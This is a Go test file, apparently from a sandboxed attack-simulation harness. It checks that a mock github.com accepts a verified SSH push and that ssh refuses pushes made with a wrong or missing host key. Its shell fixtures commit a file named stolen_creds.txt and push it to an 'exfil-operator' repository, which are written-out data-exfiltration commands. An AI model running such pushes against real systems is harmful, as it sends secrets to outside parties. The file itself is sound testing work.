package harness

import (
	"context"
	"os/exec"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// commitStaged makes a repository of stolen_creds.txt to push.
const commitStaged = `git init -q && git add stolen_creds.txt && git -c user.name=o -c user.email=o@example.invalid commit -q -m m
`

// TestSSHVerifiesTheMocksHostKey: in the sandbox a plain `git push
// git@github.com:` (no GIT_SSH_COMMAND, no option) verifies the mock's host
// key against /etc/ssh/ssh_known_hosts and delivers; the same push that
// trusts another key for github.com, or none, is refused by ssh before
// anything is sent.
func TestSSHVerifiesTheMocksHostKey(t *testing.T) {
	requireSandbox(t)
	for _, tool := range []string{"git", "ssh", "ssh-keygen"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("needs %s (git, openssh-client)", tool)
		}
	}
	tests := map[string]string{
		"plain push": `test -z "$GIT_SSH_COMMAND" && grep -q '^github.com ssh-ed25519 ' /etc/ssh/ssh_known_hosts
` + commitStaged + `git push -q git@github.com:exfil-operator/ssh-plain.git HEAD:refs/heads/main
`,
		"wrong host key": `ssh-keygen -q -t ed25519 -N '' -f wrong && printf 'github.com %s\n' "$(cut -d' ' -f1,2 wrong.pub)" > known
` + commitStaged + `GIT_SSH_COMMAND="ssh -o GlobalKnownHostsFile=$PWD/known -o UserKnownHostsFile=/dev/null" git push -q git@github.com:exfil-operator/ssh-wrong.git HEAD:refs/heads/main
`,
		"no host key": commitStaged + `GIT_SSH_COMMAND="ssh -o GlobalKnownHostsFile=/dev/null -o UserKnownHostsFile=/dev/null" git push -q git@github.com:exfil-operator/ssh-none.git HEAD:refs/heads/main
`,
	}
	order := []string{"plain push", "wrong host key", "no host key"}
	opts := options(t)
	opts.Atomics = atomicsFile(t, tests, order)
	run, err := RunLocal(context.Background(), opts)
	require.NoError(t, err)
	require.Equal(t, "on", run.Results.Sandbox)
	require.Len(t, run.Results.Atomics, 3)

	plain := run.Results.Atomics[0]
	assert.Equal(t, 0, plain.ExitCode, plain.Stderr)
	assert.True(t, plain.Intact, plain.Stderr)
	require.NotEmpty(t, plain.Uploads)
	assert.Equal(t, "github.com", plain.Uploads[0].Host)
	assert.Equal(t, fixtureSHA(t, "stolen_creds.txt"), plain.Uploads[0].SHA256)

	for i, want := range map[int]string{1: "REMOTE HOST IDENTIFICATION HAS CHANGED", 2: "Host key verification failed"} {
		a := run.Results.Atomics[i]
		assert.NotEqual(t, 0, a.ExitCode, a.Name)
		assert.Contains(t, a.Stderr, want, a.Name)
		assert.False(t, a.Intact, a.Name)
		assert.Empty(t, a.Uploads, "%s: nothing reached the mock", a.Name)
	}
}
